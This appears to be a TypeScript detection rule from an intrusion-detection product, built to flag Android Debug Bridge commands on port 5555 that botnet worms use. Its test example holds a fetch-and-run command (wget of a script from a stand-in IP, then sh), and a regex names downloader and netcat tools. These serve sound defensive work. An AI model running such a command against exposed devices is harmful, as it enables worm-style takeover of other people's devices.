import type { Verb } from '#model/fact'
import { defineRule } from '#model/rule'

const shell = {
  kind: 'operation',
  verb: 'execute',
  name: 'Open shell',
  code: 'shell',
  object: 'cd /data/local/tmp; wget http://203.0.113.9/a.sh; sh a.sh',
  outcome: 'requested',
} as const
const place = { protocol: 'adb', serverPort: 5555 } as const
/** Shells, restarts, requests for root and file transfers. */
const COMMANDS: readonly Verb[] = ['execute', 'restart', 'configure', 'write']
/** Typical worm payload: a program is downloaded and run. */
const LOADS = /\b(?:wget|curl|tftp|busybox)\b|\bnc\s/i

export const rule = defineRule({
  id: 'adb-command',
  formerIds: ['debug-bridge-used'],
  engine: 'malware',
  title: 'Android Debug Bridge command',
  category: 'Suspicion of Malicious Activity',
  severity: 'major',
  techniques: ['T0807', 'T0866'],
  defenderTitles: [],
  learnable: true,
  whileLearning: 'alert',
  why: 'Android panels, signs and cameras that leave port 5555 open run commands without a password. Botnets scan for them.',
  todo: [
    'Read the command in the packets and check the device’s traffic afterwards',
    'Disable network debugging on the device',
    'Reset the device to factory settings if a program was downloaded',
  ],
  falsePositives: 'Developers who work on their own device.',
  match: { kind: 'operation', protocols: ['adb'], outcomes: ['requested'], verbs: COMMANDS },
  evaluate({ fact }, context) {
    if (!COMMANDS.includes(fact.verb)) return undefined
    if (!context.isLearning && context.isUsual()) return undefined
    const line = fact.object === undefined ? '' : `: ${fact.object.slice(0, 100)}`
    return {
      severity: LOADS.test(fact.object ?? '') ? 'critical' : undefined,
      summary: `${context.nameOf('client')} ran a command on ${context.nameOf('server')} by Android Debug Bridge (${fact.code}${line})`,
      subject: fact.code,
    }
  },
  examples: {
    fires: [
      { when: 'a worm loads its payload', facts: [{ ...place, fact: shell }], severity: 'critical' },
      {
        when: 'a shell is opened',
        facts: [{ ...place, fact: { ...shell, object: undefined } }],
        severity: 'major',
      },
      {
        when: 'a program is installed without a shell',
        facts: [
          {
            ...place,
            fact: { ...shell, name: 'Open abb_exec', code: 'abb_exec', object: 'package install' },
          },
        ],
        severity: 'major',
      },
      {
        when: 'a file is sent',
        facts: [
          {
            ...place,
            fact: {
              ...shell,
              verb: 'write',
              name: 'Send file',
              code: 'sync SEND',
              object: '/data/local/tmp/a',
            },
          },
        ],
        severity: 'major',
      },
    ],
    silent: [
      {
        when: 'a file transfer service is opened: each transfer is reported by itself',
        facts: [{ ...place, fact: { ...shell, verb: 'read', name: 'Open sync', code: 'sync' } }],
      },
    ],
  },
})
